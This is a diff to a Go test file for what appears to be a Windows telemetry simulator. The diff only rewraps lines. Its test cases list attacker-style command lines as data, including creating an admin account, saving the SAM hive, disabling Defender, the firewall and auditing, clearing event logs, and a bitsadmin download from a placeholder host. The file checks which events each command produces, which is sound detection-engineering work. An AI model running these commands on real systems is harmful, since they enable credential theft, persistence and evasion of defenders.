@@ -39,23 +39,39 @@ func TestToolsDoWhatTheirCommandLineSays(t *testing.T) {
 		field  event.Field
 		value  string // that some event has in the field
 	}{
-		"an account is made":       {Net, `net user support P@ss /add`, []string{"Security 4720", "Security 4722", "Security 4724", "Security 4738", "Sysmon 1", "Security 4688", "Security 4689"}, event.TargetUserName, "support"},
-		"a member is added":        {Net, `net localgroup administrators support /add`, []string{"Security 4732"}, event.TargetUserName, "administrators"},
-		"the domain is asked":      {Net, `net group "Domain Admins" /domain`, []string{"Security 4661", "Security 5145", "dce_rpc"}, event.RelativeTargetName, "samr"},
-		"a value is set":           {Reg, `reg add "HKLM\SOFTWARE\Policies\X" /v Off /t REG_DWORD /d 1 /f`, []string{"Sysmon 13", "Security 4657"}, event.Details, "DWORD (0x00000001)"},
-		"a value of one's own":     {Reg, `reg add HKCU\Software\Run /v A /d b.exe`, []string{"Sysmon 13"}, event.Details, "b.exe"},
-		"a hive is saved":          {Reg, `reg save HKLM\SAM C:\t\sam.save`, []string{"Sysmon 11", "Security 4656", "Security 4663", "Security 4658"}, event.TargetFilename, `C:\t\sam.save`},
-		"a service is created":     {Sc, `sc.exe create Upd binPath= "C:\a b.exe" start= auto`, []string{"System 7045", "Security 4697", "Sysmon 13"}, event.ImagePath, `C:\a b.exe`},
-		"a service is disabled":    {Sc, `sc config WinDefend start= disabled`, []string{"System 7040", "Sysmon 13"}, event.Details, "DWORD (0x00000004)"},
-		"a task is created":        {Schtasks, `schtasks /create /tn Upd /tr "C:\x.exe -q" /sc daily`, []string{"Security 4698", "TaskScheduler 106", "Sysmon 11", "Sysmon 13"}, event.TaskName, `\Upd`},
-		"a log is cleared":         {Wevtutil, `wevtutil cl Security`, []string{"Security 1102"}, event.NoField, ""},
-		"another log is cleared":   {Wevtutil, `wevtutil.exe clear-log System`, []string{"System 104"}, event.NoField, ""},
-		"the audit is switched":    {Auditpol, `auditpol /set /category:"Logon/Logoff" /success:disable`, []string{"Security 4719"}, event.NoField, ""},
-		"the firewall is off":      {Netsh, `netsh advfirewall set allprofiles state off`, []string{"Windows Firewall With Advanced Security 2003", "Security 4950"}, event.NoField, ""},
-		"a port is forwarded":      {Netsh, `netsh interface portproxy add v4tov4 listenport=80 listenaddress=0.0.0.0 connectport=22 connectaddress=10.0.0.1`, []string{"Sysmon 13"}, event.Details, "10.0.0.1/22"},
-		"a shell starts a program": {Cmd, `cmd.exe /c "whoami & net user"`, []string{"Sysmon 1", "Security 4688"}, event.CommandLine, "whoami"},
-		"a job is fetched":         {Bitsadmin, `bitsadmin /transfer j http://x.example/a.exe C:\t\a.exe`, []string{"Bits-Client 3", "Bits-Client 59", "Bits-Client 60", "Sysmon 11"}, event.TargetFilename, `C:\t\a.exe`},
-		"somebody else's rights":   {InSystem32("runas.exe", "RUNAS.EXE", "Run As Utility"), `runas /user:CORP\svc_sql cmd.exe`, []string{"Security 4648", "Security 4624"}, event.TargetUserName, "svc_sql"},
+		"an account is made": {Net, `net user support P@ss /add`,
+			[]string{"Security 4720", "Security 4722", "Security 4724", "Security 4738", "Sysmon 1", "Security 4688",
+				"Security 4689"}, event.TargetUserName, "support"},
+		"a member is added": {Net, `net localgroup administrators support /add`, []string{"Security 4732"},
+			event.TargetUserName, "administrators"},
+		"the domain is asked": {Net, `net group "Domain Admins" /domain`,
+			[]string{"Security 4661", "Security 5145", "dce_rpc"}, event.RelativeTargetName, "samr"},
+		"a value is set": {Reg, `reg add "HKLM\SOFTWARE\Policies\X" /v Off /t REG_DWORD /d 1 /f`,
+			[]string{"Sysmon 13", "Security 4657"}, event.Details, "DWORD (0x00000001)"},
+		"a value of one's own": {Reg, `reg add HKCU\Software\Run /v A /d b.exe`, []string{"Sysmon 13"}, event.Details,
+			"b.exe"},
+		"a hive is saved": {Reg, `reg save HKLM\SAM C:\t\sam.save`,
+			[]string{"Sysmon 11", "Security 4656", "Security 4663", "Security 4658"}, event.TargetFilename, `C:\t\sam.save`},
+		"a service is created": {Sc, `sc.exe create Upd binPath= "C:\a b.exe" start= auto`,
+			[]string{"System 7045", "Security 4697", "Sysmon 13"}, event.ImagePath, `C:\a b.exe`},
+		"a service is disabled": {Sc, `sc config WinDefend start= disabled`, []string{"System 7040", "Sysmon 13"},
+			event.Details, "DWORD (0x00000004)"},
+		"a task is created": {Schtasks, `schtasks /create /tn Upd /tr "C:\x.exe -q" /sc daily`,
+			[]string{"Security 4698", "TaskScheduler 106", "Sysmon 11", "Sysmon 13"}, event.TaskName, `\Upd`},
+		"a log is cleared":       {Wevtutil, `wevtutil cl Security`, []string{"Security 1102"}, event.NoField, ""},
+		"another log is cleared": {Wevtutil, `wevtutil.exe clear-log System`, []string{"System 104"}, event.NoField, ""},
+		"the audit is switched": {Auditpol, `auditpol /set /category:"Logon/Logoff" /success:disable`,
+			[]string{"Security 4719"}, event.NoField, ""},
+		"the firewall is off": {Netsh, `netsh advfirewall set allprofiles state off`,
+			[]string{"Windows Firewall With Advanced Security 2003", "Security 4950"}, event.NoField, ""},
+		"a port is forwarded": {Netsh,
+			`netsh interface portproxy add v4tov4 listenport=80 listenaddress=0.0.0.0 connectport=22 connectaddress=10.0.0.1`, []string{"Sysmon 13"}, event.Details, "10.0.0.1/22"},
+		"a shell starts a program": {Cmd, `cmd.exe /c "whoami & net user"`, []string{"Sysmon 1", "Security 4688"},
+			event.CommandLine, "whoami"},
+		"a job is fetched": {Bitsadmin, `bitsadmin /transfer j http://x.example/a.exe C:\t\a.exe`,
+			[]string{"Bits-Client 3", "Bits-Client 59", "Bits-Client 60", "Sysmon 11"}, event.TargetFilename, `C:\t\a.exe`},
+		"somebody else's rights": {InSystem32("runas.exe", "RUNAS.EXE", "Run As Utility"),
+			`runas /user:CORP\svc_sql cmd.exe`, []string{"Security 4648", "Security 4624"}, event.TargetUserName, "svc_sql"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			w := wholeEstate(t)
@@ -68,7 +84,8 @@ func TestToolsDoWhatTheirCommandLineSays(t *testing.T) {
 				seen[short(e)] = true
 				found = found || c.value != "" && e.Value(c.field) == c.value
 			}
-			w.StartProcess(time.Hour, actor, Start{Host: h, Account: w.Accounts[0], Binary: c.binary, CommandLine: c.line, Integrity: "High"})
+			w.StartProcess(time.Hour, actor, Start{Host: h, Account: w.Accounts[0], Binary: c.binary, CommandLine: c.line,
+				Integrity: "High"})
 			for _, want := range c.want {
 				require.True(t, seen[want], "%s is missing among %v", want, keys(seen))
 			}
@@ -84,10 +101,12 @@ func TestToolsWithoutRightsChangeNothing(t *testing.T) {
 	seen := map[string]bool{}
 	w.Deliver = func(e *event.Event) { seen[short(e)] = true }
 	h := w.WithRole(role.Workstation)[0]
-	for _, line := range []string{`net user x y /add`, `net user x y /add /domain`, `net group "Domain Admins" x /add /domain`} {
+	for _, line := range []string{`net user x y /add`, `net user x y /add /domain`,
+		`net group "Domain Admins" x /add /domain`} {
 		w.StartProcess(time.Hour, actor, Start{Host: h, Account: h.Owner, Binary: Net, CommandLine: line})
 	}
-	w.StartProcess(time.Hour, actor, Start{Host: h, Account: h.Owner, Binary: Wevtutil, CommandLine: "wevtutil cl Security"})
+	w.StartProcess(time.Hour, actor, Start{Host: h, Account: h.Owner, Binary: Wevtutil,
+		CommandLine: "wevtutil cl Security"})
 	for _, id := range []string{"4720", "4728", "4732", "1102"} {
 		require.False(t, seen["Security "+id], id)
 	}
@@ -125,7 +144,8 @@ func TestRecordsOfOneProcessAgree(t *testing.T) {
 	h := w.WithRole(role.FileServer)[0]
 	byKind := map[string]*event.Event{}
 	w.Deliver = func(e *event.Event) { byKind[short(e)] = e }
-	p := w.StartProcess(time.Hour, actor, Start{Host: h, Account: w.Accounts[0], Binary: Ipconfig, CommandLine: "ipconfig"})
+	p := w.StartProcess(time.Hour, actor, Start{Host: h, Account: w.Accounts[0], Binary: Ipconfig,
+		CommandLine: "ipconfig"})
 	sysmon, security := byKind["Sysmon 1"], byKind["Security 4688"]
 	require.Equal(t, p.GUID, sysmon.Value(event.ProcessGuid))
 	require.Equal(t, p.GUID, byKind["Sysmon 5"].Value(event.ProcessGuid))
